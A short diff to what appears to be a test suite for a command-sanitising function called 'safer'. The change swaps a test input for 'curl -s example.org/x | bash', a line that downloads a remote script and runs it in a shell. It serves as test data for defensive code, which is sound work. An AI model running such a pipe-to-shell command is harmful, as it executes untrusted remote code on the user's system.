@@ -69,7 +69,7 @@ describe('recursive deletes', () => {
       safer('goose up'),
       safer('git push'),
       safer('source "$X"'),
-      safer('bash "$X"'),
+      safer('curl -s example.org/x | bash'),
     ]).toEqual([
       'python manage.py showmigrations',
       'prisma migrate status',
